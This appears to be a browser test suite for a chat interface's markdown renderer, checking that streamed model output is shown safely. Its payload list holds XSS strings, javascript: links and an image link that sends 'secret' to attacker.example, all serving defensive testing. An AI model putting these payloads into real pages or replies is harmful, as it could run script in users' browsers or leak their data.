// A model may write anything. Nothing of it runs, loads or leaves; the page stays alive; the policy has nothing to report.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { answered, openChat, send, shared, watch } from './harness.mjs';
import { startMock } from './mock.mjs';

const here = shared();

const kMarkup = [
  '<script>window.ran = 1; alert(1)</script>', '<img src=x onerror="window.ran=1">', '<svg onload="window.ran=1"></svg>',
  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>', '<a href="javascript:window.ran=1">a</a>', '<style>*{display:none}</style>',
  '<p style="position:fixed;inset:0">x</p>', '<form action="/admin"><input name=x><button>go</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1>', '<object data="data:text/html,x"></object>',
  '[click](javascript:window.ran=1)', '[click](  JaVaScRiPt:window.ran=1 )', '[click](data:text/html,<script>1</script>)', '[x](vbscript:1)',
  '[ref]: javascript:window.ran=1', '[ref]', '<javascript:window.ran=1>', '![steal](https://attacker.example/?q=secret)',
  '![x](x"onerror="window.ran=1)', '`<script>window.ran=1</script>`', '```html\n<script>window.ran=1</script>\n```',
  '```"><script>window.ran=1</script>\nx\n```', '$\\href{javascript:window.ran=1}{x}$', '$$\\html@mathml{<script>}{x}$$', '$\\unknowncommand{$',
  '| a | b |\n|---|---|\n| <script>window.ran=1</script> | <b onclick=1>x</b> |', '&lt;script&gt;window.ran=1&lt;/script&gt;',
  '<meta http-equiv="refresh" content="0;url=https://attacker.example">', '<base href="https://attacker.example">', '<link rel=stylesheet href=//attacker.example/x.css>',
];

// Cut into pieces of three characters, as tokens would be.
const cut = (text, size) => text.match(new RegExp(`[\\s\\S]{1,${size}}`, 'g'));

async function show(pieces, check, limitMs = 30_000) {
  const mock = await startMock(pieces);
  const context = await here.browser.newContext({ locale: 'en-US' });
  const faults = await watch(context);
  const foreign = [];
  context.on('request', (request) => request.url().startsWith(mock.url) || request.url().startsWith('data:') || foreign.push(request.url()));
  try {
    const page = await openChat(context, mock.url);
    await send(page, 'go');
    await answered(page, limitMs);
    await check(page);
    // Alive: another conversation can be begun and typed in.
    await page.click('#new-chat', { timeout: 5000 });
    await page.fill('#message-box', 'still here', { timeout: 5000 });
    assert.equal(await page.evaluate(() => window.ran), undefined);
    assert.deepEqual(foreign, []);
    assert.deepEqual(faults, []);
    assert.ok(!mock.seen.some((path) => path.startsWith('/admin') || path === '/x'), mock.seen.join(' '));
  } finally {
    await context.close();
    mock.stop();
  }
}

test('scripts, frames, forms, styles, dangerous links: shown as text', async () => {
  await show(cut(kMarkup.join('\n\n'), 3), async (page) => {
    const bad = await page.evaluate(() => {
      const node = document.querySelector('.message.assistant .markdown');
      const links = [...node.querySelectorAll('a')].map((a) => a.getAttribute('href')).filter((href) => href && !/^(https?:|mailto:)/.test(href));
      return [...links, ...[...node.querySelectorAll('script, iframe, img, svg:not(.icon), form, input, style, object, link, meta, base, [style], [onclick], [onerror]')]
        .filter((n) => !n.closest('math')).map((n) => n.outerHTML)];
    });
    assert.deepEqual(bad, []);
    assert.match(await page.locator('.message.assistant .markdown').innerText(), /<script>window\.ran = 1/);
  });
});

test('a line of a megabyte', async () => {
  await show(cut('word '.repeat(200_000), 5000), async (page) => {
    assert.ok((await page.locator('.message.assistant .markdown').evaluate((n) => n.textContent.length)) > 990_000);
  });
});

test('brackets, stars and ticks in the tens of thousands', async () => {
  await show([...cut('['.repeat(20_000), 500), '\n\n', ...cut('*a_'.repeat(10_000), 500), '\n\n', ...cut('`'.repeat(20_000), 500), '\n\n', '> '.repeat(500), 'x'], async () => undefined);
});

test('a table of 10,000 rows', async () => {
  const rows = Array.from({ length: 10_000 }, (_, i) => `| ${i} | ${i * i} |\n`);
  await show(['| n | square |\n|---|---|\n', ...cut(rows.join(''), 4000)], async (page) => {
    assert.equal(await page.locator('.message.assistant tbody tr').count(), 10_000);
  }, 60_000);
});

test('open fences, and one that never closes', async () => {
  const text = 'Before.\n\n```python\nprint("<b>")\n' + 'x = 1\n'.repeat(5000);
  await show(cut(text, 40), async (page) => {
    const code = await page.locator('.message.assistant pre code').innerText();
    assert.ok(code.includes('print("<b>")') && code.split('\n').length > 5000);
  });
});

test('bidirectional overrides stay inside their block', async () => {
  await show(['Safe \u202Etxet siht\u202C and \u2067more\n\n', 'Plain line.'], async (page) => {
    const plain = page.locator('.message.assistant .markdown p').last();
    assert.equal(await plain.innerText(), 'Plain line.');
    assert.equal(await plain.evaluate((n) => getComputedStyle(n).direction), 'ltr');
  });
});

test('what is drawn while it streams equals what is drawn at once', async () => {
  const text = '# Title\n\nSome *text* with `code` and [a link][1].\n\n1. one\n2. two\n\n   more of two\n\n- [x] done\n\n```js\nlet a = 1;\n```\n\n| a | b |\n|--|--|\n| 1 | 2 |\n\n> quote\n> more\n\n$$x^2$$\n\nlast $y$ line\n\n[1]: https://example.org/';
  let streamed;
  await show(cut(text, 2), async (page) => {
    await page.waitForTimeout(300);
    streamed = await page.locator('.message.assistant .markdown').innerHTML();
    await page.reload();
    await page.waitForSelector('.message.assistant math');
    await page.waitForTimeout(300);
    assert.equal(await page.locator('.message.assistant .markdown').innerHTML(), streamed);
    assert.match(streamed, /href="https:\/\/example.org\/"/);
  });
});
